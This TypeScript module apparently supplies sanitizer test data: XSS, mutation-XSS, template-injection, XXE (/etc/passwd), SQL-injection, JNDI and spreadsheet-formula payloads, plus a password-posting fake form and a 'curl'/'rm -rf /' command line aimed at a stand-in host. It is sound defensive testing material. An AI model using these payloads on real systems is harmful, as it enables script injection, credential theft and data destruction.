import { elsewhere, run } from './marks.js';

const words = (list: string): string[] => list.trim().split(/\s+/);

/** Of HTML past and present, SVG and MathML. */
const elements = words(`
  a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound blink blockquote body br button canvas caption
  center col command content data datalist dd del details dialog div dl embed fencedframe fieldset figure font footer form frame frameset
  h1 head header hr html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map mark marquee math menu
  meta meter multicol nav nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rp
  rt ruby s samp script search section select shadow slot small source spacer span strike strong style sub summary sup svg table tbody td
  template textarea tfoot th thead time title tr track tt u ul var video wbr webview x-canary xml xmp xss
`);

const handlers = words(`
  abort afterprint animationend animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle
  beforeunload begin blur bounce cancel canplay change click close contextmenu copy cut dblclick drag drop end ended error finish focus
  focusin formdata fullscreenchange gotpointercapture hashchange input invalid keydown load loadeddata loadstart message mousedown
  mouseenter mousemove mouseover mouseup pagehide pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate
  popstate readystatechange repeat resize scroll scrollend search seeking select show start submit suspend timeupdate toggle touchstart
  transitionend unhandledrejection unload volumechange waiting webkitanimationstart wheel
`);

const classics: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${elsewhere}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<script>${run}//`,
  `<<script>${run}//<</script>`,
  `<script type=module>import '${elsewhere}/x.js'</script>`,
  `<script type=importmap>{"imports":{"x":"${elsewhere}/x.js"}}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<img """><script>${run}</script>">`,
  `<img/src=x/onerror=${run}>`,
  `<img srcset="${elsewhere}/1 1x, ${elsewhere}/2 2x" src=${elsewhere}/3>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=data:,${run} />`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=onload to=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<svg><image href=${elsewhere}/x.png>`,
  `<svg><feImage href=${elsewhere}/x.svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`,
  `<svg><style>@import url(${elsewhere}/x.css)</style></svg>`,
  `<svg><discard onbegin=${run}>`,
  `<math><maction actiontype=statusline#${elsewhere} xlink:href=javascript:${run}>x</maction></math>`,
  `<math href=javascript:${run}>x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<iframe src=javascript:${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe src=${elsewhere}></iframe>`,
  `<object data=javascript:${run}>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src=javascript:${run}>`,
  `<embed src=${elsewhere}/x.swf allowscriptaccess=always>`,
  `<form action=javascript:${run}><input type=submit autofocus></form>`,
  `<form action=${elsewhere} method=post><input name=password type=password autocomplete=current-password><button>Sign in</button></form>`,
  `<button formaction=javascript:${run}>x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<input type=image src=${elsewhere}/x.png>`,
  `<isindex action=javascript:${run} type=image>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=${elsewhere}/x.png src=${elsewhere}/x.mp4 autoplay>`,
  `<audio src=x onerror=${run}>`,
  `<track src=${elsewhere}/x.vtt default>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<body onload=${run} background=${elsewhere}/x.png>`,
  `<table background=${elsewhere}/x.png><td background=javascript:${run}>`,
  `<base href=${elsewhere}/>`,
  `<base target=_top href=javascript:/a/-${run}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<meta http-equiv=Set-Cookie content="session=canary">`,
  `<meta name=referrer content=unsafe-url>`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  ...words('prefetch preload prerender preconnect dns-prefetch modulepreload icon manifest import alternate').map((rel) => `<link rel=${rel} as=script href=${elsewhere}/x>`),
  `<style>@import '${elsewhere}/x.css';</style>`,
  `<style>*{background:url(${elsewhere}/x.png)}</style>`,
  `<style>input[value^=a]{background:url(${elsewhere}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${elsewhere}/x.woff)}body{font-family:x!important}</style>`,
  `<div style="position:fixed;inset:0;background:url(${elsewhere}/x.png);z-index:9999">x</div>`,
  `<div style="width:expression(${run});behavior:url(x.htc);-moz-binding:url(x)">x</div>`,
  `<a href=javascript:${run} ping=${elsewhere}>x</a>`,
  `<a href="java&#10;script:${run}">x</a>`,
  `<a href=x target=_blank rel=opener onclick=${run}>x</a>`,
  `<map name=x><area shape=default href=javascript:${run}></map><img usemap=#x src=x>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>y</button>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<x-canary is=x-canary onclick=${run} tabindex=1 id=x></x-canary>`,
  `<a id=canary><a id=canary name=toString href=x>`,
  `<form id=client><input name=session><img name=body>`,
  `<?xml-stylesheet type="text/xsl" href="${elsewhere}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<!--><script>${run}</script>-->`,
  `--><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'"--></style></script><svg/onload=${run}>`,
  `</p></div></article></main><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
]; // prettier-ignore

/** What becomes something else when it is parsed, written out and parsed again. */
const mutating: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  `<math><mi><mglyph></mi><style><img src=x onerror=${run}></style></math>`,
  `<svg><title><a id="</title><img src=x onerror=${run}>"></title></svg>`,
  `<select><iframe></select><img src=x onerror=${run}></iframe>`,
  `<template><s><template><s><img src=x onerror=${run}>`,
  `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<style><p title="</style><img src=x onerror=${run}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>">`,
  `<plaintext><img src=x onerror=${run}>`,
  `<img alt="\`><script>${run}</script>" src="\`\`onerror=${run}">`,
  `<p id="\u2028</p><img src=x onerror=${run}>">`,
  `<a href="x\0y" onclick\u0009=${run}>`.replace('\0', '\ufffd'),
  `<b><a href="https://a.example"><b>[x](https://a.example/"onclick="${run})</b></a></b>`,
];

/** What templates, formatters and frameworks would evaluate. */
const templates: readonly string[] = [
  `{{constructor.constructor('${run}')()}}`,
  `{{$on.constructor('${run}')()}}`,
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {7*7} [[7*7]] {%raw%} @(7*7)`,
  `\${${run}} \`\${${run}}\``,
  `<%= ${run} %>`,
  `#{${run}}`,
  `{% debug %}{{ config }}{{ self.__init__.__globals__ }}`,
  `{name, select, other {{name}}} {count, plural, one {#} other {#}}`,
  `<b>{authorName}</b> {0} %s %d %n %1$s {{t 'x'}} $t(x)`,
  `{"$$typeof":"Symbol(react.element)","type":"img","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
  `{"type":"link","url":"javascript:${run}","children":[]}`,
  `\${jndi:ldap://canary.example/x} $(curl ${elsewhere}) \`curl ${elsewhere}\` ; rm -rf / | x && y`,
  `'; drop table messages; -- ' or 1=1 /* %' like '_`,
  `=HYPERLINK("${elsewhere}","x") @SUM(1) +1 -1`,
  `<div v-html="'x'" v-on:click="${run}" ng-app ng-csp ng-click=$event.view.${run} x-data x-init=${run} hx-get=${elsewhere} hx-trigger=load>x</div>`,
];

const attributes = `src=${elsewhere}/x href=javascript:${run} data=${elsewhere}/x action=${elsewhere} xlink:href=javascript:${run}`;

export const html: Readonly<Record<string, readonly string[]>> = {
  'every element': elements.map((name) => `<${name} ${attributes} onload=${run} onerror=${run}>x</${name}>`),
  'every handler': handlers.map((name) => `<div on${name}=${run} tabindex=1 style="animation:x 1s">x</div><img src=x on${name}="${run}">`),
  'classic injections': classics,
  'mutating markup': mutating,
  'template injection': templates,
};
